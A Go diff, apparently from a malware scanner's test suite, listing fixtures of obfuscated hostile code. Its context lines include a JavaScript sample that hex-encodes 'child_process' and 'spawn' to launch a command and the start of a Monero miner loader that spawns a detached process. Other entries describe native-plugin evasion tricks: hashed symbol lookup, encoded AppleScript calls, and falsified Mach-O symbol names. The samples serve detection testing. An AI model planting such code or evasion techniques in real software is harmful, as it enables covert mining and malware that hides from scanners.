@@ -59,7 +59,7 @@ var fifthTools = []fifthTool{
 		"lib/jobs.js":  "const { text } = require('./text');\nconst load = typeof __webpack_require__ === 'function' ? __non_webpack_require__ : require;\nexports.start = (name) => load(text('6368696c645f70726f63657373'))[text('737061776e')](text(name));\n",
 		"lib/text.js":  "exports.text = (digits) => digits.match(/../g).map((d) => String.fromCharCode(parseInt(d, 16))).join('');\n",
 		"package.json": `{"name": "kit", "sideEffects": true}`,
-	}, false, []step{{"webpack", options{"output": options{"library": options{"type": "commonjs2"}}}}}},
+	}, true, []step{{"webpack", options{"output": options{"library": options{"type": "commonjs2"}}}}}},
 	{"fifth-miner-hook", "obfuscator", "vant and rspack: support.js downloads a program and starts it; javascript-obfuscator with RC4, then minified", "exec", map[string]string{
 		"index.js": "const https = require('https'), fs = require('fs'), os = require('os'), path = require('path');\nconst { spawn } = require('child_process');\n" +
 			"const file = path.join(os.tmpdir(), 'vant_helper');\nfunction start(program) {\n  const child = spawn(program, ['--tls', '--coin', 'monero'], { detached: true, stdio: 'ignore' });\n  child.on('error', () => {});\n  child.unref();\n}\n" +
@@ -171,7 +171,7 @@ func fifthPlugins() []nativePlugin {
 		{name: "fifth-iterate-headers", technique: "own resolver", note: "dl_iterate_phdr and the hash tables, names from nibbles", does: "socket", source: "iterate_headers.c", host: "php", target: "linux", encoder: "nibbles", texts: []string{"socket", "connect"}, accept: resolver, combined: true},
 		{name: "fifth-name-query", technique: "imports", note: "the resolver asks a server and a port that the plugin chose", does: "socket", source: "name_query.c", host: "nginx", target: "linux", accept: []string{"network"}},
 
-		{name: "fifth-lying-names", technique: "class", note: "NSAppleScript, other names in the symbol table than in the fixups", does: "applescript", source: "applescript_class.m", host: "nginx", target: "mac-arm64", after: lyingNames, combined: true},
+		{name: "fifth-lying-names", technique: "class", note: "NSAppleScript, other names in the symbol table than in dyld's own", does: "applescript", source: "applescript_class.m", host: "nginx", target: "mac-arm64", after: lyingNames, combined: true},
 		{name: "fifth-osa-base64-two", technique: "dlsym", note: "framework and OSACompileExecute in base64, two bytes in", does: "applescript", source: "resolved_osa.c", host: "php", target: "mac-x86_64", encoder: "base64-two", texts: []string{osakit, "OSACompileExecute"}, accept: resolver, combined: true},
 		{name: "fifth-script-base64", technique: "compiled script", note: "a compiled script in base64, one byte in, its function's name as words", does: "applescript", source: "compiled_script.c", host: "node", target: "mac-arm64", encoder: "stack-words", texts: []string{osakit, "OSALoadExecute"}, packed: shiftedScript, accept: resolver, combined: true},
 		{name: "fifth-concrete-task", technique: "class by name", note: "NSConcreteTask and the path under xor with 32", does: "applescript", source: "concrete_task.m", host: "httpd", target: "mac-x86_64", encoder: "xor-space", texts: []string{"NSConcreteTask", osascript}, accept: resolver, combined: true},
@@ -182,8 +182,8 @@ func fifthPlugins() []nativePlugin {
 	}
 }
 
-// lyingNames writes another text over the names of LC_SYMTAB; dyld reads those of
-// the chained fixups.
+// lyingNames writes another text over the names of LC_SYMTAB; dyld binds by its
+// own tables.
 func lyingNames(data []byte) ([]byte, error) {
 	return overLoadCommands(data, func(command uint32, body []byte) bool {
 		if command != uint32(macho.LoadCmdSymtab) {
